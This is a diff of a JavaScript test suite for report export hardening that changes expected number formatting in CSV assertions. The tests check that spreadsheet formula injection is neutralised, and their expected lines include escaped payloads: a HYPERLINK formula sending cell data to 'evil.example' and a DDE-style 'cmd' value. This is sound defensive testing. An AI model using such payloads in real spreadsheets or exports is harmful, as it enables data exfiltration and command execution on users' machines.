@@ -102,7 +102,7 @@ describe('report hardening', () => {
   it('exports a report of exactly one row (CSV and HTML), also without dimensions', async () => {
     const csv = await exportOf(wide, { period: 'today', metrics: ['clicks', 'cost'] });
     assert.equal(csv.statusCode, 200);
-    assert.deepEqual(csv.body.trim().split('\n'), ['Clicks,Cost', '1,2.000000']);
+    assert.deepEqual(csv.body.trim().split('\n'), ['Clicks,Cost', '1,2']);
     const oneCountry = await exportOf(wide, { period: 'today', dimensions: ['country'], metrics: ['clicks'] });
     assert.deepEqual(oneCountry.body.trim().split('\n'), ['Country,Clicks', 'DE,1']);
     const html = await exportOf(wide, { period: 'today', metrics: ['clicks'], format: 'html' });
@@ -120,9 +120,9 @@ describe('report hardening', () => {
     });
     assert.equal(csv.statusCode, 200);
     const lines = csv.body.trim().split('\n');
-    assert.ok(lines.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",1,-1.000000`), lines.join('\n'));
-    assert.ok(lines.includes(`'@SUM(1+1)*cmd|x,1,-1.000000`), lines.join('\n'));
-    assert.ok(lines.includes(`'-2+3,1,-1.000000`), lines.join('\n'));
+    assert.ok(lines.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",1,-1`), lines.join('\n'));
+    assert.ok(lines.includes(`'@SUM(1+1)*cmd|x,1,-1`), lines.join('\n'));
+    assert.ok(lines.includes(`'-2+3,1,-1`), lines.join('\n'));
     assert.ok(lines.every((line) => !/^[=+@-]/.test(line)));
   });
 
